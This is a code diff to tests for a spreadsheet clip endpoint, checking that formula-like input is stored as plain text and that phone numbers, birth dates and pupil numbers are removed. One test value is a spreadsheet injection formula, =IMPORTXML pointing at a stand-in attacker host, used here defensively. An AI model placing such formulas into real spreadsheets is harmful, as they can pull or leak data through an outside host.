@@ -84,10 +84,16 @@ describe('doPost, the clip endpoint', () => {
 
   it('stores text that looks like a formula as text', () => {
     const { emulator, app, token } = tracker();
-    post(app, JSON.stringify({ token, clip: sampleClip({ title: '=IMPORTXML("http://evil.example","//a")', details: '+44 7700 900123', school: '@school', la: '-Anyshire' }) }));
+    post(app, JSON.stringify({ token, clip: sampleClip({ title: '=IMPORTXML("http://evil.example","//a")', details: '+ more admin time', school: '@school', la: '-Anyshire' }) }));
     const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
     expect(sheet.getRange(2, 8).getFormula()).toBe('');
-    expect(tasks(emulator)[1].slice(3, 9)).toEqual(['@school', '-Anyshire', 'J.S.', 'Annual review', '=IMPORTXML("http://evil.example","//a")', '+44 7700 900123']);
+    expect(tasks(emulator)[1].slice(3, 9)).toEqual(['@school', '-Anyshire', 'J.S.', 'Annual review', '=IMPORTXML("http://evil.example","//a")', '+ more admin time']);
+  });
+
+  it('removes identifiers that reach it unredacted (a second line behind the extension)', () => {
+    const { emulator, app, token } = tracker();
+    post(app, JSON.stringify({ token, clip: sampleClip({ details: 'Call mum on 07700 900123; DOB 03/04/2015; UPN A123456789012' }) }));
+    expect(String(tasks(emulator)[1][8])).not.toMatch(/07700 900123|03\/04\/2015|A123456789012/);
   });
 
   it('cuts a field longer than a cell holds, saying so', () => {
